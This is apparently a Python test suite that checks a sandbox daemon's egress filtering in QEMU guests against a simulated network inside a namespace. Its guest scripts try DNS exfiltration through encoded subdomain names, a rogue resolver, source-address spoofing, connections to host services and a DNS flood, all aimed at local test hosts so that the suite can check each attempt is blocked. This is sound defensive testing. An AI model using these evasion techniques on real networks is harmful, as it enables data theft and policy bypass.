#!/usr/bin/env python3
"""Egress conformance suite: real sandboxes (QEMU), the real daemon, real
nftables/TAP, against a small "internet" in a network namespace this test
creates (veth pair, an authoritative dnsmasq with a query log as the
daemon's upstream resolver, HTTP servers on several addresses). No traffic
goes anywhere else.

Prints one line per row and `N passed, N failed (attempts A, leaks L)`:
an attempt is a connection or query that must be stopped, a leak is one
that got through. Everything it creates (namespace, veth, TAPs, the nftables
table, processes, the temp dir) is removed at the end, also on failure, and
the end checks that nothing is left.

Environment: CLEANROOM_TEST_VM=1, CLEANROOM_BIN, CLEANROOM_KERNEL_DIR,
CLEANROOM_TEST_IMAGE_TAR (as control-plane.py). Root (TAP, nftables, netns).
"""
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import time

if os.environ.get("CLEANROOM_TEST_VM") != "1":
    print("egress-conformance: skipped (set CLEANROOM_TEST_VM=1)")
    sys.exit(77)
if os.geteuid() != 0 or not os.path.exists("/dev/net/tun") or not shutil.which("nft") \
        or not shutil.which("dnsmasq") or not shutil.which("ip"):
    print("egress-conformance: skipped (needs root, /dev/net/tun, nft, ip, dnsmasq)")
    sys.exit(77)

BIN = os.environ["CLEANROOM_BIN"]
IMAGE = "test/egress-busybox"
DEADLINE = 840  # whole suite (SIGALRM)
PID = os.getpid()
def free_subnet():
    """A /24 index that no interface here uses in 10.213/10.214 (concurrent
    runs of this suite on one host pick different ones)."""
    used = subprocess.run(["ip", "-o", "-4", "addr"], stdout=subprocess.PIPE,
                          stderr=subprocess.DEVNULL).stdout.decode()
    for k in range(200):
        n = 16 + (PID + k) % 200
        if ("10.213.%d." % n) not in used and ("10.214.%d." % n) not in used:
            return n
    return 16 + PID % 200


N = free_subnet()                     # a /24 of our own in the pool and the world
TAG = "%05d" % (PID % 100000)
TABLE = "crtest_%d" % PID
NS = "cr-eg-%s" % TAG
VETH_H, VETH_N = "creh%s" % TAG, "cren%s" % TAG
WORLD = "10.214.%d" % N               # the namespace's addresses
POOL = "10.213.%d.0/24" % N           # sandbox addresses
HOST_W = WORLD + ".1"                 # our end of the veth
DNS_W = WORLD + ".2"                  # dnsmasq
HOSTS = {                             # name -> address of an HTTP server in the namespace
    "allowed.test": WORLD + ".10",
    "other.test": WORLD + ".11",
    "a.wild.test": WORLD + ".12",
    "bad.wild.test": WORLD + ".15",
    "wild.test": WORLD + ".16",
    "ttl.test": WORLD + ".13",
}
TTL_NEW = WORLD + ".14"
LITERAL = WORLD + ".20"               # allowed only by an IP rule
SERVERS = [(a, p) for a in sorted(set(HOSTS.values()) | {TTL_NEW, LITERAL}) for p in (8080, 9090)]
POLICY = """version: 1
sandbox:
  image:
    ref: %s
  network:
    default: deny
    allow:
      - allowed.test:8080
      - "*.wild.test:8080"
      - ttl.test:8080
      - %s:8080
    deny:
      - bad.wild.test
""" % (IMAGE, LITERAL)

TMP = tempfile.mkdtemp(prefix="cr-egress-")
ENV = dict(os.environ)
ENV.update({
    "CLEANROOM_RUN_DIR": os.path.join(TMP, "run"),
    "CLEANROOM_DATA_DIR": os.path.join(TMP, "data"),
    "CLEANROOM_EGRESS_TABLE": TABLE,
    "CLEANROOM_EGRESS_POOL": POOL,
    "CLEANROOM_EGRESS_NFLOG_GROUP": str(3000 + PID % 20000),
    "CLEANROOM_DNS_UPSTREAM": DNS_W,
    "CLEANROOM_DNS_MIN_TTL": "3",
})
# The VMM pool keeps one network entry (and none without a network): the
# sandbox the matrix runs on is handed out from it (main()).
ENV.update({"CLEANROOM_IMAGE": IMAGE, "CLEANROOM_POOL_SIZE": "0", "CLEANROOM_POOL_NET_SIZE": "1"})
ENV.pop("CLEANROOM_HOST", None)
ENV.pop("CLEANROOM_EGRESS", None)
DNS_LOG = os.path.join(TMP, "dnsmasq.log")
HOSTS_FILE = os.path.join(TMP, "hosts")
SERVER_LOG = os.path.join(TMP, "http.log")
PROCS = []
RESULTS = []
COUNT = {"attempts": 0, "leaks": 0}


def sh(*args, check=True, timeout=60, **kw):
    p = subprocess.run(list(args), stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                       timeout=timeout, **kw)
    if check and p.returncode != 0:
        raise AssertionError("%s -> %d: %s" % (" ".join(args), p.returncode,
                                              p.stderr.decode(errors="replace")[-500:]))
    return p


def cr(*args, timeout=240, check=True):
    p = subprocess.run([BIN] + list(args), stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                       stdin=subprocess.DEVNULL, env=ENV, timeout=timeout)
    if check and p.returncode != 0:
        raise AssertionError("cleanroom %s -> %d: %s" % (" ".join(args), p.returncode,
                                                        p.stderr.decode(errors="replace")[-800:]))
    return p


def guest(sid, script, timeout=60):
    """Runs a shell script in the sandbox; returns (exit code, stdout text)."""
    p = cr("exec", "--in", sid, "--", "sh", "-c", script, timeout=timeout, check=False)
    return p.returncode, p.stdout.decode(errors="replace")


# ---- the world in a namespace

SERVER_PY = r"""
import socket, sys, threading, os
log = open(sys.argv[1], "a", buffering=1)
def serve(addr, port):
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((addr, port)); s.listen(16)
    while True:
        c, peer = s.accept()
        log.write("%s %s:%d\n" % (peer[0], addr, port))
        try:
            c.settimeout(5); c.recv(4096)
            body = ("srv %s %d\n" % (addr, port)).encode()
            c.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
        except OSError:
            pass
        c.close()
pairs = [(a, int(p)) for a, p in (x.split(":") for x in sys.argv[2:])]
for a, p in pairs:
    threading.Thread(target=serve, args=(a, p), daemon=True).start()
print("ready", flush=True)
threading.Event().wait()
"""


def write_hosts(ttl_addr):
    with open(HOSTS_FILE + ".tmp", "w") as f:
        for name, addr in HOSTS.items():
            f.write("%s %s\n" % (ttl_addr if name == "ttl.test" else addr, name))
    os.rename(HOSTS_FILE + ".tmp", HOSTS_FILE)


def start_world():
    sh("ip", "netns", "add", NS)
    sh("ip", "link", "add", VETH_H, "type", "veth", "peer", "name", VETH_N)
    sh("ip", "link", "set", VETH_N, "netns", NS)
    sh("ip", "addr", "add", HOST_W + "/24", "dev", VETH_H)
    sh("ip", "link", "set", VETH_H, "up")
    nse = ["ip", "netns", "exec", NS]
    sh(*nse, "ip", "link", "set", "lo", "up")
    sh(*nse, "ip", "addr", "add", DNS_W + "/24", "dev", VETH_N)
    for a in sorted({a for a, _ in SERVERS}):
        sh(*nse, "ip", "addr", "add", a + "/32", "dev", VETH_N)
    sh(*nse, "ip", "link", "set", VETH_N, "up")
    write_hosts(HOSTS["ttl.test"])
    dns = subprocess.Popen(nse + ["dnsmasq", "--keep-in-foreground", "--conf-file=/dev/null",
                                  "--no-resolv", "--no-hosts", "--addn-hosts=" + HOSTS_FILE,
                                  "--listen-address=" + DNS_W, "--bind-interfaces",
                                  "--user=root", "--group=root", "--pid-file=",
                                  "--log-queries", "--log-facility=" + DNS_LOG, "--local-ttl=1"],
                           stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    PROCS.append(dns)
    srv = subprocess.Popen(nse + [sys.executable, "-c", SERVER_PY, SERVER_LOG] +
                           ["%s:%d" % sp for sp in SERVERS], stdout=subprocess.PIPE)
    PROCS.append(srv)
    if srv.stdout.readline().strip() != b"ready":
        raise AssertionError("HTTP servers in the namespace did not start")
    # dnsmasq answers once it is up (a query from the host side of the veth)
    for _ in range(100):
        if dns.poll() is not None:
            raise AssertionError("dnsmasq exited: %s" % dns.stderr.read()[-500:])
        if os.path.exists(DNS_LOG):
            break
        time.sleep(0.05)  # polling for dnsmasq's log file, bounded
    return dns


def dns_log():
    try:
        with open(DNS_LOG) as f:
            return f.read()
    except OSError:
        return ""


def server_log():
    try:
        with open(SERVER_LOG) as f:
            return f.read().splitlines()
    except OSError:
        return []


# ---- rows

def row(name, ok, detail=""):
    RESULTS.append((name, ok))
    print("%s  %s%s" % ("ok  " if ok else "FAIL", name, (": " + detail) if detail and not ok else ""),
          flush=True)


def must_block(ok_blocked):
    COUNT["attempts"] += 1
    if not ok_blocked:
        COUNT["leaks"] += 1
    return ok_blocked


def wget(sid, url, timeout=10):
    # (not wget -T: busybox 1.35's wget crashes with it)
    return guest(sid, "timeout -s KILL %d wget -q -O - %s 2>&1; echo rc=$?" % (timeout, url),
                 timeout=60)


def fetched(out, addr, port):
    return ("srv %s %d" % (addr, port)) in out


def events(sid):
    p = cr("events", "--sandbox", sid, "--json")
    return [json.loads(l) for l in p.stdout.decode().splitlines() if l.strip()]


def has_event(evs, **kw):
    return any(all(e.get(k) == v for k, v in kw.items()) for e in evs)


def run_rows(a, b, info_a, info_b):
    gw = info_a["host_address"]
    # 1 allowed host:port
    _, out = wget(a, "http://allowed.test:8080/")
    row("allow host:port permits that port", fetched(out, HOSTS["allowed.test"], 8080), out)
    # 2 same host, another port
    _, out = wget(a, "http://allowed.test:9090/")
    row("allow host:port permits only that port",
        must_block(not fetched(out, HOSTS["allowed.test"], 9090)), out)
    # 3 default deny: unlisted host
    _, out = guest(a, "nslookup other.test 2>&1; echo rc=$?")
    _, out2 = wget(a, "http://other.test:8080/")
    row("default deny blocks an unlisted host (DNS REFUSED)",
        must_block(HOSTS["other.test"] not in out and not fetched(out2, HOSTS["other.test"], 8080)),
        out + out2)
    # 4 wildcard: subdomain yes, apex no
    _, out = wget(a, "http://a.wild.test:8080/")
    _, out2 = wget(a, "http://wild.test:8080/")
    row("wildcard matches a subdomain", fetched(out, HOSTS["a.wild.test"], 8080), out)
    row("wildcard does not match the apex", must_block(not fetched(out2, HOSTS["wild.test"], 8080)),
        out2)
    # 5 deny overrides allow
    _, out = wget(a, "http://bad.wild.test:8080/")
    row("explicit deny overrides a wildcard allow",
        must_block(not fetched(out, HOSTS["bad.wild.test"], 8080)), out)
    # 6 IP literals: only IP/CIDR rules
    _, out = wget(a, "http://%s:8080/" % LITERAL)
    row("IP literal allowed by an IP rule", fetched(out, LITERAL, 8080), out)
    _, out = wget(a, "http://%s:9090/" % LITERAL)
    row("IP rule permits only its port", must_block(not fetched(out, LITERAL, 9090)), out)
    _, out = wget(a, "http://%s:8080/" % HOSTS["other.test"])
    row("raw IP of an unlisted server is rejected",
        must_block(not fetched(out, HOSTS["other.test"], 8080)), out)
    # 7 raw IP to an allowed host's address on another port
    _, out = wget(a, "http://%s:9090/" % HOSTS["allowed.test"])
    row("raw IP to an allowed host's address on another port fails",
        must_block(not fetched(out, HOSTS["allowed.test"], 9090)), out)
    # 8 another resolver
    before = dns_log().count("query[A] allowed.test")
    _, out = guest(a, "nslookup allowed.test %s 2>&1; echo rc=$?" % DNS_W)
    after = dns_log().count("query[A] allowed.test")
    row("a resolver other than ours is unreachable",
        must_block(after == before and "rc=0" not in out), out)
    # 9 TXT and AAAA for denied names, exfiltration by name
    guest(a, "nslookup -type=txt c2VjcmV0.exfil.other.test 2>&1; "
             "nslookup -type=aaaa secret2.other.test 2>&1; nslookup wild.test 2>&1; "
             "nslookup bad.wild.test 2>&1; true")
    log = dns_log()
    leaked = [n for n in ("other.test", "c2VjcmV0", "secret2", " wild.test", "bad.wild.test")
              if n in log]
    row("denied names never reach the upstream resolver (its query log)",
        must_block(not leaked) and "query[A] allowed.test" in log, "in the log: %s" % leaked)
    # 10 the host's own services
    lsock = socket.socket()
    lsock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    lsock.bind(("0.0.0.0", 0))
    lsock.listen(4)
    lsock.setblocking(False)
    port = lsock.getsockname()[1]
    _, out = guest(a, "for h in %s %s; do nc -w 3 $h %d </dev/null && echo CONNECTED $h; done; true"
                   % (gw, HOST_W, port))
    accepted = 0
    try:
        while True:
            c, _ = lsock.accept()
            accepted += 1
            c.close()
    except BlockingIOError:
        pass
    lsock.close()
    row("the host's own services are unreachable",
        must_block("CONNECTED" not in out and accepted == 0), out)
    # 11 other sandboxes
    guest(b, "mkdir -p /tmp/www && echo sandbox-b > /tmp/www/index.html && "
             "(httpd -p 8080 -h /tmp/www &) ; true")
    bip = info_b["guest_address"].split("/")[0]
    _, out = wget(a, "http://%s:8080/" % bip)
    _, out2 = guest(a, "nslookup allowed.test %s 2>&1; echo rc=$?" % info_b["host_address"])
    row("other sandboxes are unreachable (their address, their resolver)",
        must_block("sandbox-b" not in out and "rc=0" not in out2), out + out2)
    # 12 spoofed source
    spoof = info_a["guest_address"].split("/")[0].rsplit(".", 1)[0] + ".77"
    seen_before = len(server_log())
    _, out = guest(a, "ip addr add %s/32 dev eth0 && ip route add %s/32 via %s src %s && "
                      "nc -w 2 %s 8080 </dev/null; ip route del %s/32; ip addr del %s/32 dev eth0; true"
                   % (spoof, HOSTS["allowed.test"], gw, spoof, HOSTS["allowed.test"],
                      HOSTS["allowed.test"], spoof))
    new = server_log()[seen_before:]
    row("a spoofed source address is dropped", must_block(not any(spoof in l for l in new)),
        "server saw %s" % new)
    # 13 denied connection fails fast
    _, out = guest(a, "a=$(cut -d' ' -f1 /proc/uptime); nc -w 10 %s 8080 </dev/null; "
                      "b=$(cut -d' ' -f1 /proc/uptime); echo elapsed $a $b" % HOSTS["other.test"])
    try:
        t0, t1 = [float(x) for x in out.split("elapsed", 1)[1].split()[:2]]
        took = t1 - t0
    except (IndexError, ValueError):
        took = 99
    row("a denied connection fails within 1 s (reset, not a hang)", took < 1.0,
        "took %.2f s: %s" % (took, out))
    # 14 TTL expiry followed
    _, out = wget(a, "http://ttl.test:8080/")
    first = fetched(out, HOSTS["ttl.test"], 8080)
    write_hosts(TTL_NEW)
    PROCS[0].send_signal(signal.SIGHUP)  # dnsmasq re-reads its hosts file
    expired = False
    deadline = time.time() + 30
    while time.time() < deadline:
        _, o = guest(a, "nc -w 2 %s 8080 </dev/null && echo OPEN; true" % HOSTS["ttl.test"])
        if "OPEN" not in o:
            expired = True
            break
    _, out2 = wget(a, "http://ttl.test:8080/")
    row("after TTL expiry the new answer is followed and the old address expires",
        first and expired and fetched(out2, TTL_NEW, 8080), out + out2)
    # 15 audit events with reasons
    evs = events(a)
    want = [dict(kind="dns", action="deny", name="other.test", reason="host_not_allowed"),
            dict(kind="dns", action="deny", name="bad.wild.test", reason="host_denied"),
            dict(kind="dns", action="allow", name="allowed.test", reason="allowed"),
            dict(kind="connection", action="deny", address=HOSTS["allowed.test"], port=9090,
                 reason="port_not_allowed"),
            dict(kind="connection", action="deny", address=HOSTS["other.test"], port=8080,
                 reason="ip_literal_not_allowed"),
            dict(kind="connection", action="deny", reason="spoofed_source"),
            dict(kind="connection", action="deny", reason="host_service_denied")]
    missing = [w for w in want if not has_event(evs, **w)]
    row("audit events name the sandbox, destination and reason", not missing,
        "missing %s" % missing)
    # 16 inspect shows the effective allowlist (with a fresh answer)
    guest(a, "nslookup allowed.test >/dev/null 2>&1; true")
    sb = json.loads(cr("sandbox", "inspect", a, "--json").stdout)
    net = sb.get("network") or {}
    hosts = [r.get("host") for r in net.get("allow", [])]
    row("sandbox inspect shows the effective allowlist",
        "allowed.test" in hosts and any(r.get("name") == "allowed.test" for r in net.get("resolved", [])),
        json.dumps(net)[:400])
    # 17 a DNS flood is counted, not logged query by query (sandbox b: a's
    # events are checked above and after the restart)
    t0 = time.time()
    guest(b, "for i in $(seq 300); do nslookup flood$i.other.test >/dev/null 2>&1 & done; wait; true",
          timeout=120)
    took = time.time() - t0
    suppressed = 0
    deadline = time.time() + 20
    while time.time() < deadline:  # the held-back count goes out with the next admitted event
        guest(b, "nslookup after.other.test >/dev/null 2>&1; true")
        evs = events(b)
        suppressed = sum(e.get("count", 0) for e in evs if e.get("action") == "suppressed")
        if suppressed:
            break
    logged = [e for e in evs if e.get("kind") == "dns" and (e.get("name") or "").startswith("flood")]
    bound = 40 + 20 * took + 2  # burst + rate * time (every lookup also asks AAAA: twice the queries)
    row("a DNS flood from a guest is rate-limited in the audit log and counted",
        suppressed > 0 and len(logged) <= bound,
        "%d flood events logged in %.1f s (bound %.0f), %d suppressed" % (len(logged), took, bound,
                                                                         suppressed))


def fork_row(a, info_a, taps):
    """A fork of a network sandbox's snapshot gets its own address (the one its
    memory came with is gone), its own resolver in resolv.conf, and a working
    network."""
    snap = json.loads(cr("snapshot", "create", a, "--json").stdout)
    f = json.loads(cr("sandbox", "create", "--from-snapshot", snap["id"], "--policy",
                      os.path.join(TMP, "policy.yaml"), "--json", "--no-progress").stdout)["id"]
    info_f = json.loads(cr("sandbox", "inspect", f, "--json").stdout)["network"]
    taps.append(info_f["tap"])
    _, out = guest(f, "ip -4 addr show dev eth0; ip route; cat /etc/resolv.conf")
    _, w = wget(f, "http://allowed.test:8080/")
    own = info_f["guest_address"] != info_a["guest_address"] and \
        ("inet %s " % info_f["guest_address"]) in out and \
        ("inet %s " % info_a["guest_address"]) not in out and \
        ("default via %s " % info_f["host_address"]) in out and \
        ("nameserver %s\n" % info_f["host_address"]) in out
    row("a fork gets its own address, route and resolver (the source's are gone)",
        own and fetched(w, HOSTS["allowed.test"], 8080), out + w)
    cr("sandbox", "rm", f)
    cr("snapshot", "rm", snap["id"])


def restart_row(a, taps):
    """A daemon restart keeps the sandbox's network (re-attached from its slot)
    and sweeps objects of sandboxes that are gone."""
    ghost = "01GHOSTSANDBOX%s0000000" % TAG
    ghost = ghost[:26]
    ghost_tap = ("crt" + ghost[-12:]).lower()
    taps.append(ghost_tap)
    sh("nft", "add", "chain", "inet", TABLE, "f_" + ghost)
    sh("ip", "tuntap", "add", "dev", ghost_tap, "mode", "tap")
    seqs_before = [e["seq"] for e in events(a)]
    stop_daemon(ENV)
    state = None
    deadline = time.time() + 120
    while time.time() < deadline and state != "ready":  # the new daemon re-attaches
        state = json.loads(cr("sandbox", "inspect", a, "--json").stdout).get("state")
        if state == "failed":
            break
        time.sleep(0.2)  # polling the sandbox state, bounded
    _, out = wget(a, "http://allowed.test:8080/")
    _, out2 = guest(a, "nslookup other.test 2>&1; echo rc=$?")
    chains = sh("nft", "list", "chains", "inet").stdout.decode()
    swept = ("f_" + ghost) not in chains and not os.path.exists("/sys/class/net/" + ghost_tap)
    row("after a daemon restart the network is back and gone sandboxes' objects are swept",
        fetched(out, HOSTS["allowed.test"], 8080) and HOSTS["other.test"] not in out2 and swept,
        "state=%s swept=%s %s %s" % (state, swept, out, out2))
    after = events(a)
    seqs_after = [e["seq"] for e in after]
    kept = seqs_before and seqs_after[:len(seqs_before)] == seqs_before
    new_ok = any(e["seq"] > seqs_before[-1] and e.get("name") == "other.test" for e in after)
    row("audit events survive the restart and their seq goes on",
        bool(kept and new_ok), "before %s after %s" % (seqs_before[-5:], seqs_after[-8:]))
    # the stop detached the pool's reserved network: no detach without an attach
    def evs_of(out):
        return [json.loads(l) for l in out.decode().splitlines() if l.strip()]
    detached = {e["sandbox"] for e in evs_of(cr("events", "--json").stdout)
                if e.get("kind") == "network" and e.get("action") == "detach"}
    orphans = [x for x in sorted(detached)
               if not any(e.get("kind") == "network" and e.get("action") == "attach"
                          for e in evs_of(cr("events", "--sandbox", x, "--json").stdout))]
    row("a network's detach event always follows its attach (a pool's reserved network has neither)",
        not orphans, json.dumps(orphans)[:600])


def fail_closed_row():
    """A host that cannot enforce egress refuses the policy (second daemon, egress off)."""
    env = dict(ENV)
    env["CLEANROOM_EGRESS"] = "off"
    env["CLEANROOM_RUN_DIR"] = os.path.join(TMP, "run-off")
    env["CLEANROOM_DATA_DIR"] = os.path.join(TMP, "data-off")  # one daemon per data dir
    pol = os.path.join(TMP, "policy.yaml")
    p = subprocess.run([BIN, "sandbox", "create", "--policy", pol, "--memory", "256"],
                       stdout=subprocess.PIPE, stderr=subprocess.PIPE, stdin=subprocess.DEVNULL,
                       env=env, timeout=120)
    row("a host that cannot enforce egress fails the launch (fail closed)",
        p.returncode != 0 and b"backend_capability_mismatch" in p.stderr, p.stderr.decode()[-300:])
    stop_daemon(env)


def system_info(env):
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(10)
    s.connect(os.path.join(env["CLEANROOM_RUN_DIR"], "cleanroom.sock"))
    s.sendall(b'{"jsonrpc":"2.0","id":1,"method":"system.info"}\n')
    buf = b""
    while not buf.endswith(b"\n"):
        c = s.recv(65536)
        if not c:
            break
        buf += c
    s.close()
    return json.loads(buf)["result"]


def wait_pool_network_entry():
    """Until the VMM pool holds a ready network entry (started after the
    first sandbox with a network was ready)."""
    deadline = time.time() + 180
    while True:
        p = system_info(ENV)["pool"]
        if p["network"]["ready"] >= 1:
            return p
        if time.time() > deadline:
            raise AssertionError("the pool has no ready network entry: %s" % p)
        time.sleep(0.1)  # polling the daemon's pool, bounded


def stop_daemon(env):
    sock = os.path.join(env["CLEANROOM_RUN_DIR"], "cleanroom.sock")
    if not os.path.exists(sock):
        return
    try:
        s = socket.socket(socket.AF_UNIX)
        s.settimeout(10)
        s.connect(sock)
        s.sendall(b'{"jsonrpc":"2.0","id":1,"method":"system.info"}\n')
        buf = b""
        while not buf.endswith(b"\n"):
            c = s.recv(65536)
            if not c:
                break
            buf += c
        s.close()
        pid = json.loads(buf)["result"]["pid"]
        os.kill(pid, signal.SIGTERM)
        for _ in range(200):
            try:
                os.kill(pid, 0)
            except OSError:
                return
            time.sleep(0.05)  # waiting for the daemon to exit, bounded
        os.kill(pid, signal.SIGKILL)
    except (OSError, ValueError, KeyError):
        pass


def leftovers():
    left = []
    if sh("ip", "netns", "list", check=False).stdout.decode().find(NS) >= 0:
        left.append("netns " + NS)
    links = sh("ip", "-o", "link", check=False).stdout.decode()
    for name in [VETH_H]:
        if name + "@" in links or name + ":" in links:
            left.append("link " + name)
    if sh("nft", "list", "table", "inet", TABLE, check=False).returncode == 0:
        left.append("nft table " + TABLE)
    ps = sh("ps", "-eo", "pid,args", check=False).stdout.decode()
    for l in ps.splitlines():
        if TMP in l and "ps -eo" not in l:
            left.append("process " + l.strip()[:120])
    return left


def cleanup(taps):
    try:
        if os.path.exists(os.path.join(ENV["CLEANROOM_RUN_DIR"], "cleanroom.sock")):
            cr("sandbox", "rm", "--all", timeout=120, check=False)
        stop_daemon(ENV)
    except Exception as e:  # clean-up never raises
        print("cleanup: %s" % e)
    for p in PROCS:
        try:
            p.kill()
            p.wait(5)
        except Exception:
            pass
    ps = sh("ps", "-eo", "pid,args", check=False).stdout.decode()
    for l in ps.splitlines():
        if TMP in l and "qemu" in l:
            try:
                os.kill(int(l.split()[0]), signal.SIGKILL)
            except (OSError, ValueError):
                pass
    # the daemon removed the TAPs and its chains with the sandboxes: what is
    # left now is a leak, counted before the forced clean-up below
    leaked_taps = [t for t in taps if os.path.exists("/sys/class/net/" + t)]
    for t in leaked_taps:
        sh("ip", "link", "del", t, check=False)
    chains = sh("nft", "list", "chains", "inet", check=False).stdout.decode()
    leaked_chains = TABLE in chains and ("f_" in chains.split(TABLE, 1)[1].split("table", 1)[0])
    sh("nft", "delete", "table", "inet", TABLE, check=False)
    sh("ip", "link", "del", VETH_H, check=False)
    sh("ip", "netns", "del", NS, check=False)
    if not all(ok for _, ok in RESULTS):
        try:
            with open(os.path.join(ENV["CLEANROOM_RUN_DIR"], "daemon.log"), "rb") as f:
                print("daemon.log (tail):\n" + f.read()[-3000:].decode(errors="replace"))
        except OSError:
            pass
        sdir = os.path.join(ENV["CLEANROOM_DATA_DIR"], "sandboxes")
        for sid in (os.listdir(sdir) if os.path.isdir(sdir) else []):
            try:
                with open(os.path.join(sdir, sid, "qemu.log"), "rb") as f:
                    print("%s qemu.log: %s" % (sid, f.read()[-1500:].decode(errors="replace")))
            except OSError:
                pass
    shutil.rmtree(TMP, ignore_errors=True)
    return leaked_taps, leaked_chains


def main():
    signal.signal(signal.SIGALRM, lambda *a: (_ for _ in ()).throw(TimeoutError("suite deadline")))
    signal.alarm(DEADLINE)
    taps = []
    err = None
    try:
        start_world()
        with open(os.path.join(TMP, "policy.yaml"), "w") as f:
            f.write(POLICY)
        tar = os.environ.get("CLEANROOM_TEST_IMAGE_TAR")
        if not tar:
            tar = os.path.join(TMP, "busybox.tar")
            sh(os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", "images",
                            "busybox", "build.sh"), tar, timeout=120)
        cr("image", "import", tar, "--ref", IMAGE, timeout=300)
        pol = os.path.join(TMP, "policy.yaml")
        # b clones the boot template with a NIC; a is then handed out by the
        # VMM pool (a clone started ahead with a network that allowed
        # nothing, given a's rules at the hand-out): every row below runs on it
        b = cr("sandbox", "create", "--policy", pol).stdout.decode().strip()
        wait_pool_network_entry()
        a = cr("sandbox", "create", "--policy", pol).stdout.decode().strip()
        ins_a = json.loads(cr("sandbox", "inspect", a, "--json").stdout)
        info_a = ins_a["network"]
        info_b = json.loads(cr("sandbox", "inspect", b, "--json").stdout)["network"]
        taps = [info_a["tap"], info_b["tap"]]
        pooled = [e for e in ins_a.get("events", []) if "from the VMM pool" in e.get("message", "")]
        row("a sandbox with a network comes from the VMM pool's network entry",
            bool(pooled), json.dumps(ins_a.get("events", []))[-600:])
        row("each sandbox gets its own TAP and address",
            info_a["tap"] != info_b["tap"] and info_a["guest_address"] != info_b["guest_address"])
        run_rows(a, b, info_a, info_b)
        fork_row(a, info_a, taps)
        restart_row(a, taps)
        # removal takes the network with it
        cr("sandbox", "rm", b)
        chains = sh("nft", "list", "chains", "inet").stdout.decode()
        row("removing a sandbox removes its TAP and chains",
            not os.path.exists("/sys/class/net/" + info_b["tap"]) and ("f_" + b) not in chains)
        fail_closed_row()
    except Exception as e:
        err = e
        row("suite ran to the end", False, "%s: %s" % (type(e).__name__, e))
    finally:
        signal.alarm(0)
        leaked_taps, leaked_chains = cleanup(taps)
        left = leftovers()
        row("nothing left behind (TAPs, chains, namespace, veth, table, processes)",
            not leaked_taps and not leaked_chains and not left,
            "taps %s chains %s other %s" % (leaked_taps, leaked_chains, left))
    passed = sum(1 for _, ok in RESULTS if ok)
    failed = len(RESULTS) - passed
    print("%d passed, %d failed (attempts %d, leaks %d)" % (passed, failed, COUNT["attempts"],
                                                          COUNT["leaks"]))
    return 0 if failed == 0 and err is None else 1


if __name__ == "__main__":
    sys.exit(main())
